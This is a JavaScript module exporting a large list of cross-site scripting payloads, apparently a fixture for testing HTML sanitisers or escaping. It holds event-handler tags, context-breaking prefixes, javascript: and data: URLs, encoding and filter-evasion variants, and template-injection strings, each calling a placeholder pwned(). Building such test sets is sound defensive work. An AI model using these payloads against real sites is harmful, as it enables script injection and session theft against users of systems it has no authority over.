// Texts that run somewhere if a page mistakes them for markup, an address or script. Each calls
// `pwned()`.

const CALL = "pwned()";

const HANDLERS = [
  ["img", "onerror", "src=x"], ["img", "onload", "src=/assets/x.svg"], ["svg", "onload", ""], ["body", "onload", ""],
  ["body", "onpageshow", ""], ["video", "onerror", "src=x"], ["audio", "onerror", "src=x"],
  ["input", "onfocus", "autofocus"], ["select", "onfocus", "autofocus"], ["textarea", "onfocus", "autofocus"],
  ["details", "ontoggle", "open"], ["marquee", "onstart", ""], ["iframe", "onload", "src=about:blank"],
  ["object", "onerror", "data=x"], ["link", "onerror", "rel=stylesheet href=x"], ["style", "onload", ""],
  ["div", "onmouseover", "style=position:fixed;inset:0"], ["a", "onclick", "href=#"], ["button", "onfocus", "autofocus"],
  ["p", "onanimationstart", "style=animation:come+1s"], ["p", "ontransitionend", ""], ["form", "onsubmit", ""],
  ["math", "onclick", "href=x"], ["dialog", "onclose", "open"], ["source", "onerror", "src=x"],
  ["track", "onerror", "default"], ["embed", "onload", "src=/"], ["frameset", "onload", ""],
  ["isindex", "onfocus", "autofocus"], ["keygen", "onfocus", "autofocus"], ["xss", "onfocus", "tabindex=1 autofocus id=x"],
  ["p", "oncontentvisibilityautostatechange", "style=content-visibility:auto"], ["p", "onscrollend", "style=overflow:auto"],
];

const BREAKS = ["", '">', "'>", "</title>", "</textarea>", "</template>", "</style>", "</script>", "--><", "]]>"];

const ADDRESSES = [
  "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", " javascript:pwned()", "javascript&colon;pwned()",
  "javascript://%0apwned()", "data:text/html,<script>pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  "vbscript:pwned()", "blob:pwned()", "feed:javascript:pwned()", "view-source:javascript:pwned()",
];

const OTHERS = [
  "<script>pwned()</script>", "<SCRIPT>pwned()</SCRIPT>", "<script/x>pwned()</script>", "<<script>pwned();//<</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>", "<script>pwned()//", "<script src=data:,pwned()></script>",
  "<script type=module>pwned()</script>", "<svg><script>pwned()</script></svg>", "<svg><script xlink:href=data:,pwned()></script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x></svg>", "<svg><set onbegin=pwned() attributeName=x></svg>",
  "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned()>#x'></svg>",
  "<svg><foreignObject><body onload=pwned()></foreignObject></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<math><a xlink:href=javascript:pwned()>x</a></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<template><script>pwned()</script></template>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<iframe src=javascript:parent.pwned()></iframe>",
  "<object data=javascript:pwned()></object>", "<embed src=javascript:pwned()>", "<a href=javascript:pwned()>x</a>",
  "<form action=javascript:pwned()><button>x</button></form>", "<button formaction=javascript:pwned()>x</button>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned()'>", "<base href=javascript:/pwned()//>",
  "<link rel=stylesheet href=data:text/css,*{color:red}>", "<style>@import 'javascript:pwned()';</style>",
  "<style>*{background:url(javascript:pwned())}</style>", "<p style=background:url(javascript:pwned())>",
  "<p style='width:expression(pwned())'>", "<input type=image src=x onerror=pwned()>", "<table background=javascript:pwned()>",
  "<img src=`x` onerror=`pwned()`>", "<img src=x onerror\u000c=pwned()>", "<img/src=x/onerror=pwned()>",
  "<img src='x'onerror='pwned()'>", "<img src=x onerror=&#112;wned()>", "<img src=x onerror=\\u0070wned()>",
  "<img src=x:x onerror=eval(atob('cHduZWQoKQ=='))>", "<img \u2028 src=x onerror=pwned()>", "＜img src=x onerror=pwned()＞",
  "\u202e<img src=x onerror=pwned()>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
  "%3Cscript%3Epwned()%3C/script%3E", "\\x3cscript\\x3epwned()\\x3c/script\\x3e", "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "';pwned();//", '";pwned();//', "`;pwned();//", "${pwned()}", "{{constructor.constructor('pwned()')()}}", "<%= pwned() %>",
  "{{7*7}}[[pwned()]]", "\\';pwned();//", "</script><script>pwned()</script>", "<!--><script>pwned()</script>-->",
  "<![CDATA[<script>pwned()</script>]]>", "<?xml version='1.0'?><script>pwned()</script>", "<xml onreadystatechange=pwned()>",
  "__proto__", "constructor", "<div id=stories></div>", "<form id=filters><input name=topics value=pwned()>", "<a id=phrases data-close=pwned()>",
];

export const PAYLOADS = [
  ...HANDLERS.map(([tag, handler, rest], place) => `${BREAKS[place % BREAKS.length]}<${tag} ${rest} ${handler}=${CALL}>`),
  ...BREAKS.map((start) => `${start}<img src=x onerror=${CALL}>`),
  ...ADDRESSES,
  ...OTHERS,
];
